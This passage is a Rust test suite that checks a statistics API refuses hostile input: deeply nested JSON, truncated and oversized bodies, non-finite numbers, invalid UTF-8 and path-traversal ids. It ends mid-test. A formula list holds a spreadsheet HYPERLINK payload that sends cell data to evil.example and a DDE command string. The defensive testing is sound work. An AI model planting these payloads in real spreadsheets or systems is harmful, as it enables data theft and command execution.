//! Hostile input: what an attacker, a broken proxy or a runaway script sends. Every
//! request here must get a clear 4xx problem+json (never a 2xx, never a 5xx) and must
//! leave the store exactly as it was: the readings, their revisions, `/healthz`'s
//! `latest_period` and the store-wide ETag are compared after each one.
//!
//! `bad_input.rs` covers the ordinary mistakes of honest clients; this file goes
//! further: pathological nesting, truncation, non-finite numbers, path tricks, invalid
//! UTF-8, spreadsheet formulas, oversized chunked and slow-drip bodies, token floods,
//! CORS and secrets in the log.
//!
//! Tests named `bug_…` reproduce bugs this suite found; they now guard the fixes.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use chrono::Datelike;
use reqwest::blocking::{Client, Response};
use serde_json::{json, Value};

use crate::helpers::*;

/// A rate indicator and a cumulative one, each seeded with one reading for `PERIOD`.
const RATE: &str = "gdp-growth";
const CUMULATIVE: &str = "tech-sme-registered";
const PERIOD: &str = "2023-06";
/// Every period the hostile requests aim at; their revisions are part of the snapshot.
const PERIODS: [&str; 3] = ["2023-05", "2023-06", "2023-09"];

/// The lock-out window of the tests that wait it out.
const LOCKOUT: Duration = Duration::from_secs(5);

// ── servers ───────────────────────────────────────────────────────────────

/// What the snapshot and request helpers need from a server.
trait Api {
    fn base(&self) -> &str;
    fn client(&self) -> &Client;

    fn url(&self, path: &str) -> String {
        format!("{}{}", self.base(), path)
    }

    fn get_ok(&self, path: &str) -> Value {
        let r = self.client().get(self.url(path)).send().expect("GET");
        assert_eq!(r.status(), 200, "GET {path}");
        r.json().expect("JSON body")
    }
}

impl Api for TestServer {
    fn base(&self) -> &str {
        &self.base
    }
    fn client(&self) -> &Client {
        &self.client
    }
}

/// The command line of `zhibiao serve` on a fresh store in `db`, on port 0.
fn serve_command(db: &std::path::Path, args: &[&str]) -> Command {
    crate::common::serve_command(db, ADMIN_TOKEN, args)
}

// ── the store before and after ────────────────────────────────────────────

/// Everything a rejected request might have touched, as the API shows it.
#[derive(Debug, PartialEq)]
struct Snapshot {
    readings: Vec<Value>,
    revisions: Vec<Value>,
    health: Value,
    /// Derived from the store-wide change counter: any accepted write changes it.
    etag: Option<String>,
}

fn snapshot(s: &impl Api) -> Snapshot {
    let mut readings = Vec::new();
    let mut revisions = Vec::new();
    for id in [RATE, CUMULATIVE] {
        readings.push(s.get_ok(&format!("/v1/indicators/{id}/readings")));
        for p in PERIODS {
            revisions.push(s.get_ok(&format!("/v1/indicators/{id}/readings/{p}/revisions")));
        }
    }
    let r = s
        .client()
        .get(s.url("/v1/attainment?as_of=2023-06"))
        .send()
        .expect("GET attainment");
    assert_eq!(r.status(), 200);
    let etag = r
        .headers()
        .get("etag")
        .and_then(|v| v.to_str().ok())
        .map(str::to_string);
    Snapshot {
        readings,
        revisions,
        health: s.get_ok("/healthz"),
        etag,
    }
}

/// Stores one good reading per test indicator and returns the snapshot of that state.
fn seed(s: &impl Api) -> Snapshot {
    for (id, body) in [
        (RATE, json!({"value": 5.5, "status": "P"})),
        (CUMULATIVE, json!({"value": 42})),
    ] {
        let r = s
            .client()
            .put(s.url(&format!("/v1/indicators/{id}/readings/{PERIOD}")))
            .bearer_auth(ADMIN_TOKEN)
            .json(&body)
            .send()
            .expect("PUT");
        assert_eq!(r.status(), 201, "seeding {id}");
    }
    let snap = snapshot(s);
    assert_eq!(snap.readings[0][0]["value"], 5.5);
    assert_eq!(snap.readings[1][0]["value"], 42.0);
    assert_eq!(snap.health["latest_period"], PERIOD);
    assert!(snap.etag.is_some(), "/v1/attainment has no ETag");
    snap
}

fn seeded() -> (TestServer, Snapshot) {
    let s = TestServer::start();
    let snap = seed(&s);
    (s, snap)
}

fn assert_unchanged(s: &impl Api, before: &Snapshot, what: &str) {
    let now = snapshot(s);
    assert_eq!(&now, before, "{what} changed the store");
}

// ── answers ───────────────────────────────────────────────────────────────

fn header(r: &Response, name: &str) -> Option<String> {
    r.headers()
        .get(name)
        .and_then(|v| v.to_str().ok())
        .map(str::to_string)
}

/// Checks a problem+json answer and returns its body.
fn assert_problem(r: Response, status: u16, field: Option<&str>, what: &str) -> Value {
    assert_eq!(r.status().as_u16(), status, "{what}: status");
    assert_eq!(
        header(&r, "content-type").as_deref(),
        Some("application/problem+json"),
        "{what}: content type"
    );
    let body: Value = r
        .json()
        .unwrap_or_else(|e| panic!("{what}: body is not JSON: {e}"));
    assert_problem_body(&body, status, what);
    if let Some(f) = field {
        assert_eq!(body["field"], f, "{what}: field in {body}");
    }
    body
}

fn assert_problem_body(body: &Value, status: u16, what: &str) {
    assert_eq!(body["status"], status, "{what}: {body}");
    assert!(
        body["detail"]
            .as_str()
            .is_some_and(|d| !d.trim().is_empty()),
        "{what}: empty detail in {body}"
    );
    assert!(
        body["title"].as_str().is_some_and(|t| !t.is_empty()),
        "{what}: no title in {body}"
    );
    assert!(
        body["type"]
            .as_str()
            .is_some_and(|t| t.starts_with("urn:zhibiao:problem:")),
        "{what}: bad type in {body}"
    );
}

/// Checks a 400 that lists bad rows, and returns the `(row, field)` pairs.
fn assert_rows_problem(r: Response, what: &str) -> Vec<(u64, String)> {
    let body = assert_problem(r, 400, None, what);
    assert_eq!(
        body["type"], "urn:zhibiao:problem:invalid-rows",
        "{what}: {body}"
    );
    body["errors"]
        .as_array()
        .unwrap_or_else(|| panic!("{what}: no errors in {body}"))
        .iter()
        .map(|e| {
            assert!(
                e["message"].as_str().is_some_and(|m| !m.is_empty()),
                "{what}: {e}"
            );
            (
                e["row"].as_u64().unwrap(),
                e["field"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

/// A 400 about one field: either the body-level problem (with `field`) or a row
/// problem whose every error names `field`.
fn assert_refused_field(r: Response, field: &str, what: &str) {
    let body = assert_problem(r, 400, None, what);
    if body["type"] == "urn:zhibiao:problem:invalid-rows" {
        let errors = body["errors"].as_array().unwrap();
        assert!(!errors.is_empty(), "{what}: {body}");
        for e in errors {
            assert_eq!(e["field"], field, "{what}: {body}");
        }
    } else {
        assert_eq!(body["field"], field, "{what}: {body}");
    }
}

fn post_batch(
    s: &impl Api,
    query: &str,
    content_type: &str,
    body: impl Into<reqwest::blocking::Body>,
) -> Response {
    s.client()
        .post(s.url(&format!("/v1/readings{query}")))
        .bearer_auth(ADMIN_TOKEN)
        .header("content-type", content_type)
        .body(body)
        .send()
        .expect("POST /v1/readings")
}

fn put_raw(
    s: &impl Api,
    id: &str,
    period: &str,
    body: impl Into<reqwest::blocking::Body>,
) -> Response {
    s.client()
        .put(s.url(&format!("/v1/indicators/{id}/readings/{period}")))
        .bearer_auth(ADMIN_TOKEN)
        .header("content-type", "application/json")
        .body(body)
        .send()
        .expect("PUT")
}

// ── raw HTTP ──────────────────────────────────────────────────────────────

/// An answer read off a raw socket.
#[derive(Debug)]
struct RawAnswer {
    status: u16,
    head: String,
    body: String,
    elapsed: Duration,
}

impl RawAnswer {
    fn header(&self, name: &str) -> Option<String> {
        self.head.lines().skip(1).find_map(|l| {
            let (k, v) = l.split_once(':')?;
            k.trim()
                .eq_ignore_ascii_case(name)
                .then(|| v.trim().to_string())
        })
    }

    fn assert_problem(&self, status: u16, what: &str) -> Value {
        assert_eq!(self.status, status, "{what}: {self:?}");
        assert_eq!(
            self.header("content-type").as_deref(),
            Some("application/problem+json"),
            "{what}: {self:?}"
        );
        let body: Value = serde_json::from_str(&self.body)
            .unwrap_or_else(|e| panic!("{what}: body is not JSON ({e}): {self:?}"));
        assert_problem_body(&body, status, what);
        body
    }
}

/// Sends `head` and then each of `parts`, `pause` apart, on a connection of its own,
/// bypassing every client-side normalisation of paths and bodies. A separate thread
/// writes, so an answer that comes before the body is complete (413, 408) is read as
/// soon as it is sent; write errors after such an answer are expected and ignored.
/// The writer never closes the connection: a body left incomplete stays incomplete.
fn raw_exchange(base: &str, head: &str, parts: Vec<Vec<u8>>, pause: Duration) -> RawAnswer {
    let addr = base.trim_start_matches("http://");
    let conn = TcpStream::connect(addr).expect("connect");
    conn.set_read_timeout(Some(Duration::from_secs(30)))
        .unwrap();
    let mut writer = conn.try_clone().unwrap();
    let done = Arc::new(AtomicBool::new(false));
    let done_w = done.clone();
    let head = head.as_bytes().to_vec();
    let start = Instant::now();
    let w = std::thread::spawn(move || {
        if writer.write_all(&head).is_err() {
            return;
        }
        for (i, p) in parts.iter().enumerate() {
            if done_w.load(Ordering::SeqCst) {
                return;
            }
            if i > 0 && !pause.is_zero() {
                // A slow client, in real time: the body timeout is what is tested.
                std::thread::sleep(pause);
            }
            if writer.write_all(p).is_err() {
                return;
            }
        }
        // Keep the socket open until the answer is in (polling for it).
        while !done_w.load(Ordering::SeqCst) {
            std::thread::sleep(Duration::from_millis(10));
        }
    });
    let mut reader = conn;
    let mut out = Vec::new();
    let mut buf = [0u8; 8192];
    let mut elapsed = None;
    loop {
        match reader.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => {
                elapsed.get_or_insert_with(|| start.elapsed());
                out.extend_from_slice(&buf[..n]);
                if complete(&out) {
                    break;
                }
            }
            Err(e)
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::ConnectionReset | std::io::ErrorKind::ConnectionAborted
                ) =>
            {
                break
            }
            Err(e) => panic!(
                "reading the answer: {e} (so far {:?})",
                String::from_utf8_lossy(&out)
            ),
        }
    }
    done.store(true, Ordering::SeqCst);
    let _ = w.join();
    let text = String::from_utf8_lossy(&out).into_owned();
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
    let status = head
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or_else(|| panic!("no status line in {text:?}"));
    RawAnswer {
        status,
        head: head.to_string(),
        body: body.to_string(),
        elapsed: elapsed.unwrap_or_else(|| start.elapsed()),
    }
}

/// Whether `out` holds a whole answer with a Content-Length body.
fn complete(out: &[u8]) -> bool {
    let Some(end) = out.windows(4).position(|w| w == b"\r\n\r\n") else {
        return false;
    };
    let head = String::from_utf8_lossy(&out[..end]);
    let len = head.lines().find_map(|l| {
        let (k, v) = l.split_once(':')?;
        k.trim()
            .eq_ignore_ascii_case("content-length")
            .then(|| v.trim().parse::<usize>().ok())
            .flatten()
    });
    len.is_some_and(|n| out.len() - (end + 4) >= n)
}

/// One request, head and body at once.
fn raw_request(base: &str, request: &str) -> RawAnswer {
    raw_exchange(base, request, Vec::new(), Duration::ZERO)
}

/// A PUT of a valid body to a raw (unnormalised) path with the admin token.
fn raw_put_path(base: &str, method: &str, path: &str) -> RawAnswer {
    let body = r#"{"value": 1}"#;
    raw_request(
        base,
        &format!(
            "{method} {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {ADMIN_TOKEN}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        ),
    )
}

/// Frames `data` as HTTP/1.1 chunks of `size` bytes, each its own part.
fn chunked(data: &[u8], size: usize) -> Vec<Vec<u8>> {
    let mut parts: Vec<Vec<u8>> = data
        .chunks(size)
        .map(|c| {
            let mut p = format!("{:x}\r\n", c.len()).into_bytes();
            p.extend_from_slice(c);
            p.extend_from_slice(b"\r\n");
            p
        })
        .collect();
    parts.push(b"0\r\n\r\n".to_vec());
    parts
}

// ── bodies ────────────────────────────────────────────────────────────────

#[test]
fn ten_thousand_nested_arrays_are_refused_as_a_put_body_and_as_a_batch() {
    let (s, before) = seeded();
    let arrays = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
    let objects = format!("{}1{}", r#"{"a":"#.repeat(10_000), "}".repeat(10_000));
    let unclosed = "[".repeat(10_000);
    // A recursive parser without a depth limit overflows its stack on these: the
    // process would die with every connection on it.
    let puts: &[(&str, String)] = &[
        ("nested arrays", arrays.clone()),
        ("nested objects", objects.clone()),
        ("unclosed arrays", unclosed.clone()),
        (
            "nested arrays as the value",
            format!(r#"{{"value": {arrays}}}"#),
        ),
        (
            "nested arrays as the note",
            format!(r#"{{"value": 1, "note": {arrays}}}"#),
        ),
    ];
    for (what, body) in puts {
        let r = put_raw(&s, RATE, PERIOD, body.clone());
        assert_refused_field(r, "body", &format!("PUT: {what}"));
        assert_unchanged(&s, &before, what);
    }
    let row = |v: &str| format!(r#"{{"indicator": "{RATE}", "period": "2023-05", "value": {v}}}"#);
    let batches: &[(&str, &str, String)] = &[
        (
            "a batch of nested arrays",
            "application/json",
            arrays.clone(),
        ),
        (
            "a batch of nested objects",
            "application/json",
            objects.clone(),
        ),
        ("an unclosed batch", "application/json", unclosed.clone()),
        (
            "a good row, then a row nested 10,000 deep",
            "application/json",
            format!("[{}, {}]", row("7.1"), row(&arrays)),
        ),
        (
            "an NDJSON line nested 10,000 deep after a good one",
            "application/x-ndjson",
            format!("{}\n{}\n", row("7.1"), arrays),
        ),
    ];
    for (what, ct, body) in batches {
        let r = post_batch(&s, "", ct, body.clone());
        assert_refused_field(r, "body", what);
        assert_unchanged(&s, &before, what);
    }
}

#[test]
fn a_truncated_json_batch_is_refused_wherever_it_was_cut() {
    let (s, before) = seeded();
    let rows = json!([
        {"indicator": RATE, "period": "2023-05", "value": 7.1, "note": "快报"},
        {"indicator": CUMULATIVE, "period": "2023-05", "value": 30},
        {"indicator": RATE, "period": "2023-09", "value": 7.3, "status": "P"},
    ]);
    let body = serde_json::to_string_pretty(&rows).unwrap();
    // A connection cut anywhere before the closing bracket: the rows that did arrive
    // whole must not be stored on their own.
    let cuts: Vec<usize> = (1..body.len() - 1)
        .step_by(11)
        .chain([body.len() - 1])
        .filter(|i| body.is_char_boundary(*i))
        .collect();
    for cut in cuts {
        let what = format!("JSON batch cut at byte {cut} of {}", body.len());
        let r = post_batch(&s, "", "application/json", body[..cut].to_string());
        assert_refused_field(r, "body", &what);
        // Not even ?atomic=false salvages part of a document that never ended.
        let r = post_batch(
            &s,
            "?atomic=false",
            "application/json",
            body[..cut].to_string(),
        );
        assert_refused_field(r, "body", &format!("{what}, atomic=false"));
    }
    assert_unchanged(&s, &before, "truncated JSON batches");
    // NDJSON cut in the middle of its last line: that line is a bad row, and an atomic
    // batch then stores none of the complete lines before it.
    let ndjson = format!("{}\n{}\n{}", rows[0], rows[1], &rows[2].to_string()[..20]);
    let errors = assert_rows_problem(
        post_batch(&s, "", "application/x-ndjson", ndjson),
        "NDJSON cut mid-line",
    );
    assert_eq!(errors, vec![(3, "body".to_string())]);
    assert_unchanged(&s, &before, "NDJSON cut mid-line");
}

#[test]
fn batches_in_other_content_types_are_refused_with_415() {
    let (s, before) = seeded();
    let xml = format!(
        r#"<?xml version="1.0"?><readings><reading indicator="{RATE}" period="2023-05" value="7.1"/></readings>"#
    );
    // Form uploads and octets are read (tests/api/clerk.rs); these are not batches.
    let json_rows = format!(r#"[{{"indicator": "{RATE}", "period": "2023-05", "value": 7.1}}]"#);
    let cases: Vec<(&str, String, String)> = vec![
        ("XML", "application/xml".into(), xml.clone()),
        ("XML as text/xml", "text/xml".into(), xml),
        (
            "JSON rows as a form post",
            "application/x-www-form-urlencoded".into(),
            json_rows.clone(),
        ),
        (
            "CSV in a charset zhibiao does not read",
            "text/csv; charset=latin1".into(),
            format!("indicator,period,value\n{RATE},2023-05,7.1\n"),
        ),
        (
            "a content type that is no media type",
            "json".into(),
            json_rows,
        ),
    ];
    for (what, ct, body) in cases {
        let r = post_batch(&s, "", &ct, body);
        assert_problem(r, 415, None, what);
        assert_unchanged(&s, &before, what);
    }
}

#[test]
fn nan_infinity_and_1e400_are_refused_in_every_batch_format() {
    let (s, before) = seeded();
    let row = |v: &str| format!(r#"{{"indicator": "{RATE}", "period": "2023-05", "value": {v}}}"#);
    // (what, content type, body, the field blamed)
    let cases: Vec<(&str, &str, String, &str)> = vec![
        // Not JSON at all: refused as a whole body.
        ("JSON NaN token", "application/json", format!("[{}]", row("NaN")), "body"),
        ("JSON Infinity token", "application/json", format!("[{}]", row("Infinity")), "body"),
        ("JSON -Infinity token", "application/json", format!("[{}]", row("-Infinity")), "body"),
        ("NDJSON NaN token", "application/x-ndjson", row("NaN"), "body"),
        // Valid JSON numbers beyond f64: must not become ±inf.
        ("JSON 1e400", "application/json", format!("[{}]", row("1e400")), "value"),
        ("JSON -1e400", "application/json", format!("[{}]", row("-1e400")), "value"),
        ("NDJSON 1e400", "application/x-ndjson", row("1e400"), "value"),
        // Strings that Rust's f64 parser would happily read as non-finite.
        (
            "JSON string values",
            "application/json",
            serde_json::to_string(
                &["NaN", "nan", "inf", "-inf", "Infinity", "infinity", "1e400", "-1e999"]
                    .iter()
                    .enumerate()
                    .map(|(i, v)| {
                        json!({"indicator": RATE, "period": format!("2023-{:02}", i + 1), "value": v})
                    })
                    .collect::<Vec<_>>(),
            )
            .unwrap(),
            "value",
        ),
        (
            "CSV text cells",
            "text/csv",
            format!(
                "indicator,period,value\n{RATE},2023-01,inf\n{RATE},2023-02,-inf\n{RATE},2023-03,NaN\n{RATE},2023-04,nan\n{RATE},2023-05,infinity\n{RATE},2023-06,1e400\n{CUMULATIVE},2023-05,Inf\n{CUMULATIVE},2023-06,+inf\n"
            ),
            "value",
        ),
        (
            "CSV declared UTF-8",
            "text/csv; charset=utf-8",
            format!("indicator,period,value\n{CUMULATIVE},2023-05,NaN\n"),
            "value",
        ),
    ];
    for (what, ct, body, field) in &cases {
        let r = post_batch(&s, "", ct, body.clone());
        assert_refused_field(r, field, what);
        assert_unchanged(&s, &before, what);
        // With only bad rows, atomic=false has nothing to store either.
        let r = post_batch(&s, "?atomic=false", ct, body.clone());
        assert_eq!(r.status(), 400, "{what}, atomic=false");
        assert_unchanged(&s, &before, &format!("{what}, atomic=false"));
    }
    // Every CSV row is listed, by the row the spreadsheet shows.
    let csv = cases.iter().find(|c| c.0 == "CSV text cells").unwrap();
    let errors = assert_rows_problem(post_batch(&s, "", "text/csv", csv.2.clone()), "CSV");
    assert_eq!(
        errors.iter().map(|e| e.0).collect::<Vec<_>>(),
        (2..=9).collect::<Vec<_>>()
    );
}

#[test]
fn negative_counts_for_cumulative_indicators_are_refused_in_batches() {
    let (s, before) = seeded();
    let cases: Vec<(&str, &str, String)> = vec![
        (
            "JSON number",
            "application/json",
            format!(r#"[{{"indicator": "{CUMULATIVE}", "period": "2023-05", "value": -3}}]"#),
        ),
        (
            "JSON string",
            "application/json",
            format!(r#"[{{"indicator": "{CUMULATIVE}", "period": "2023-05", "value": "-3"}}]"#),
        ),
        (
            "NDJSON",
            "application/x-ndjson",
            format!(r#"{{"indicator": "{CUMULATIVE}", "period": "2023-05", "value": -0.5}}"#),
        ),
        (
            "CSV cells",
            "text/csv",
            format!(
                "indicator,period,value\n{CUMULATIVE},2023-05,-3\n{CUMULATIVE},2023-09, -42 \n{CUMULATIVE},2023-06,\"-1,234\"\nnew-above-scale-industrial-firms,2023-05,-1\n"
            ),
        ),
        // A good row does not carry a bad one through an atomic batch.
        (
            "a good rate row and a negative count",
            "application/json",
            format!(
                r#"[{{"indicator": "{RATE}", "period": "2023-05", "value": -1.5}}, {{"indicator": "{CUMULATIVE}", "period": "2023-05", "value": -3}}]"#
            ),
        ),
    ];
    for (what, ct, body) in cases {
        let errors = assert_rows_problem(post_batch(&s, "", ct, body), what);
        assert!(
            errors.iter().all(|(_, f)| f == "value"),
            "{what}: {errors:?}"
        );
        assert_unchanged(&s, &before, what);
    }
}

#[test]
fn periods_after_the_current_month_are_refused_in_batches() {
    // On the default test day, and in December, when next month is next year.
    let december = TestClock::starting_at("2023-12-20T04:00:00Z".parse().unwrap());
    for clock in [TestClock::default(), december] {
        periods_after_the_current_month_are_refused_at(clock);
    }
}

fn periods_after_the_current_month_are_refused_at(clock: TestClock) {
    let s = TestServer::builder().clock(clock).start();
    let before = seed(&s);
    let now = s.now().with_timezone(&chrono_tz::Asia::Shanghai);
    let (y, m) = (now.year(), now.month());
    let next_month = if m == 12 {
        format!("{}-01", y + 1)
    } else {
        format!("{y}-{:02}", m + 1)
    };
    let future = [
        next_month,
        format!("{}", y + 1),
        format!("{}-Q1", y + 1),
        format!("{}年1-6月", y + 1),
        "2099-01".to_string(),
        "9999-12".to_string(),
    ];
    for p in &future {
        for (ct, body) in [
            (
                "application/json",
                format!(r#"[{{"indicator": "{RATE}", "period": "{p}", "value": 7.1}}]"#),
            ),
            (
                "text/csv",
                format!("indicator,period,value\n{CUMULATIVE},{p},30\n"),
            ),
        ] {
            let what = format!("{ct} period {p}");
            let errors = assert_rows_problem(post_batch(&s, "", ct, body), &what);
            assert_eq!(errors.len(), 1, "{what}");
            assert_eq!(errors[0].1, "period", "{what}");
            assert_unchanged(&s, &before, &what);
        }
    }
}

#[test]
fn duplicate_rows_in_one_batch_are_refused() {
    let (s, before) = seeded();
    let r = |p: &str, v: f64| json!({"indicator": CUMULATIVE, "period": p, "value": v});
    let cases: Vec<(&str, &str, String)> = vec![
        (
            "the same row twice",
            "application/json",
            json!([r("2023-05", 30.0), r("2023-05", 30.0)]).to_string(),
        ),
        (
            "two values for one period",
            "application/json",
            json!([r("2023-05", 30.0), r("2023-05", 31.0)]).to_string(),
        ),
        // One key, four spellings: 2023-06, 2023-Q2, 2023-M06 and 2023年1-6月.
        (
            "one period in other forms",
            "application/json",
            json!([r("2023-09", 60.0), r("2023-06", 50.0), r("2023-Q2", 50.0), r("2023-M06", 50.0), r("2023年1-6月", 50.0)])
                .to_string(),
        ),
        (
            "NDJSON",
            "application/x-ndjson",
            format!("{}\n{}\n", r("2023-05", 30.0), r("2023-05", 30.0)),
        ),
        (
            "CSV",
            "text/csv",
            format!(
                "indicator,period,value\n{CUMULATIVE},2023-05,30\n{RATE},2023-05,7.1\n{CUMULATIVE},2023-05,30\n"
            ),
        ),
    ];
    for (what, ct, body) in cases {
        let errors = assert_rows_problem(post_batch(&s, "", ct, body), what);
        assert!(!errors.is_empty(), "{what}");
        assert!(
            errors.iter().all(|(_, f)| f == "period"),
            "{what}: {errors:?}"
        );
        assert_unchanged(&s, &before, what);
    }
}

/// Text that a spreadsheet runs when the cell is opened: a link that leaks data, a
/// formula, a DDE command.
const FORMULAS: [&str; 6] = [
    r#"=HYPERLINK("http://evil.example/?d="&A1,"详情")"#,
    "+1",
    "@SUM(A1:A9)",
    "-cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
];

#[test]
fn formula_cells_are_refused_in_csv_and_json_batches() {
    let (s, before) = seeded();
    // Each formula in the note column, one row each.
    let mut csv = csv::Writer::from_writer(Vec::new());
    csv.write_record(["indicator", "period", "value", "status", "note"])
        .unwrap();
    for f in FORMULAS {
        csv.write_record([RATE, "2023-05", "7.1", "A", f]).unwrap();
    }
    // And in the other text columns.
    csv.write_record(["=HYPERLINK(\"x\")", "2023-05", "7.1", "A", ""])
        .unwrap();
    csv.write_record([RATE, "+2023-05", "7.1", "A", ""])
        .unwrap();
    csv.write_record([RATE, "2023-09", "7.1", "@A", ""])
        .unwrap();
    csv.write_record([RATE, "2023-09", "=7.1", "A", ""])
        .unwrap();
    let csv = csv.into_inner().unwrap();
    let errors = assert_rows_problem(post_batch(&s, "", "text/csv", csv), "CSV formulas");
    let want: Vec<(u64, String)> = (2..=7)
        .map(|r| (r, "note".to_string()))
        .chain([
            (8, "indicator".to_string()),
            (9, "period".to_string()),
            (10, "status".to_string()),
            (11, "value".to_string()),
        ])
        .collect();
    assert_eq!(errors, want);
    assert_unchanged(&s, &before, "CSV formulas");

    let rows: Vec<Value> = FORMULAS
        .iter()
        .map(|f| json!({"indicator": RATE, "period": "2023-05", "value": 7.1, "note": f}))
        .collect();
    for (i, row) in rows.iter().enumerate() {
        let what = format!("JSON note {:?}", FORMULAS[i]);
        let errors = assert_rows_problem(
            post_batch(&s, "", "application/json", json!([row]).to_string()),
            &what,
        );
        assert_eq!(errors, vec![(1, "note".to_string())], "{what}");
        assert_unchanged(&s, &before, &what);
    }
}

#[test]
fn bug_a_single_put_accepts_formula_notes_that_a_batch_refuses() {
    let (s, before) = seeded();
    for f in FORMULAS {
        let r = put_raw(
            &s,
            RATE,
            PERIOD,
            json!({"value": 5.5, "note": f}).to_string(),
        );
        assert_problem(r, 400, Some("note"), f);
        assert_unchanged(&s, &before, f);
    }
}

#[test]
fn invalid_utf8_in_a_csv_is_refused_or_decoded_never_a_server_error() {
    let (s, before) = seeded();
    let mut bad =
        format!("indicator,period,value,status,note\n{CUMULATIVE},2023-05,30,A,").into_bytes();
    // Neither UTF-8 nor GB18030: a lone continuation byte, an invalid lead, a surrogate.
    bad.extend_from_slice(b"\xff\xfe\xc3\x28 \xed\xa0\x80\n");
    // Declared UTF-8: the declaration is taken at its word.
    let r = post_batch(&s, "", "text/csv; charset=utf-8", bad.clone());
    assert_problem(r, 400, Some("body"), "invalid UTF-8 declared utf-8");
    assert_unchanged(&s, &before, "invalid UTF-8 declared utf-8");
    // Undeclared: not UTF-8 and not GB18030 either, so refused as a whole.
    let r = post_batch(&s, "", "text/csv", bad.clone());
    assert_problem(r, 400, Some("body"), "invalid UTF-8, undeclared");
    assert_unchanged(&s, &before, "invalid UTF-8, undeclared");
    // Declared GBK: the same bytes are not GBK either.
    let r = post_batch(&s, "", "text/csv; charset=gbk", bad);
    assert_problem(r, 400, Some("body"), "invalid bytes declared gbk");
    assert_unchanged(&s, &before, "invalid bytes declared gbk");

    // Bytes that are not UTF-8 but are valid GBK (你好): declared UTF-8 they are refused…
    let mut gbk =
        format!("indicator,period,value,status,note\n{CUMULATIVE},2023-05,30,A,").into_bytes();
    gbk.extend_from_slice(b"\xc4\xe3\xba\xc3\n");
    let r = post_batch(&s, "", "text/csv; charset=utf-8", gbk.clone());
    assert_problem(r, 400, Some("body"), "GBK bytes declared utf-8");
    assert_unchanged(&s, &before, "GBK bytes declared utf-8");
    // …and undeclared they are a valid GBK decode, stored as the text they spell.
    let r = post_batch(&s, "", "text/csv", gbk);
    assert_eq!(r.status(), 200, "GBK bytes, undeclared");
    let stored = s.get_json(&format!("/v1/indicators/{CUMULATIVE}/readings/2023-05"));
    assert_eq!(stored["note"], "你好");
    assert_eq!(stored["value"], 30.0);
}

#[test]
fn bodies_over_the_limit_sent_chunked_without_a_length_are_413() {
    let (s, before) = seeded();
    // A batch that would be valid if read whole: one good row whose ignored padding
    // column carries it past 8 MiB.
    let mut csv = format!("indicator,period,value,padding\n{RATE},2023-05,7.1,").into_bytes();
    csv.resize(9 * 1024 * 1024, b'x');
    csv.push(b'\n');
    let head = format!(
        "POST /v1/readings HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {ADMIN_TOKEN}\r\nContent-Type: text/csv\r\nTransfer-Encoding: chunked\r\n\r\n"
    );
    let a = raw_exchange(&s.base, &head, chunked(&csv, 64 * 1024), Duration::ZERO);
    a.assert_problem(413, "a 9 MiB chunked batch");
    assert_unchanged(&s, &before, "a 9 MiB chunked batch");

    // A single reading padded with whitespace past 1 MiB: valid JSON, but too big.
    let mut json = br#"{"value": 7.1}"#.to_vec();
    json.resize(1024 * 1024 + 4096, b' ');
    let head = format!(
        "PUT /v1/indicators/{RATE}/readings/2023-05 HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {ADMIN_TOKEN}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
    );
    let a = raw_exchange(&s.base, &head, chunked(&json, 16 * 1024), Duration::ZERO);
    a.assert_problem(413, "a 1 MiB chunked PUT");
    assert_unchanged(&s, &before, "a 1 MiB chunked PUT");

    // A declared batch length over 8 MiB is refused before any of it is read.
    let a = raw_request(
        &s.base,
        &format!(
            "POST /v1/readings HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {ADMIN_TOKEN}\r\nContent-Type: text/csv\r\nContent-Length: {}\r\n\r\n",
            9 * 1024 * 1024
        ),
    );
    a.assert_problem(413, "a declared 9 MiB batch");
    assert_unchanged(&s, &before, "a declared 9 MiB batch");
}

// ── paths ─────────────────────────────────────────────────────────────────

#[test]
fn hostile_ids_and_periods_in_paths_are_400_or_404_never_written() {
    let (s, before) = seeded();
    let long_id = "a".repeat(10 * 1024);
    let long_slashes = "%2F".repeat(3 * 1024);
    let long_period = "2".repeat(10 * 1024);
    let ids = [
        "..",
        "%2E%2E",
        "%2e%2e",
        ".%2E",
        "%2E%2E%2Fgdp-growth",
        "gdp-growth%2F..%2Fcpi",
        "%2F",
        "gdp%2Fgrowth",
        "%5C..%5Cgdp-growth",
        "%00",
        "gdp-growth%00",
        "gdp-growth%00.json",
        "%C0%AE%C0%AE",
        "%ff",
        "gdp-growth%",
        "gdp-growth%2",
        &long_id,
        &long_slashes,
    ];
    let periods = [
        "..",
        "%2E%2E",
        "2023-06%00",
        "2023-06%2F..",
        "%00",
        "%ff",
        &long_period,
    ];
    let mut paths = Vec::new();
    for id in ids {
        paths.push(("PUT", format!("/v1/indicators/{id}/readings/{PERIOD}")));
        paths.push(("DELETE", format!("/v1/indicators/{id}/readings/{PERIOD}")));
        paths.push(("GET", format!("/v1/indicators/{id}/readings")));
    }
    for p in periods {
        paths.push(("PUT", format!("/v1/indicators/{RATE}/readings/{p}")));
        paths.push(("DELETE", format!("/v1/indicators/{RATE}/readings/{p}")));
        paths.push((
            "GET",
            format!("/v1/indicators/{RATE}/readings/{p}/revisions"),
        ));
    }
    // Dot segments between real segments: no server-side normalisation onto a route.
    paths.push((
        "PUT",
        format!("/v1/indicators/{RATE}/readings/../readings/{PERIOD}"),
    ));
    paths.push(("PUT", format!("/v1/indicators/./{RATE}/readings/{PERIOD}")));
    paths.push(("PUT", format!("/v1//indicators/{RATE}/readings/{PERIOD}")));
    paths.push(("PUT", format!("/v1/indicators/{RATE}//readings/{PERIOD}")));
    for (method, path) in &paths {
        let what = format!("{method} {}", &path[..path.len().min(120)]);
        let a = raw_put_path(&s.base, method, path);
        assert!(
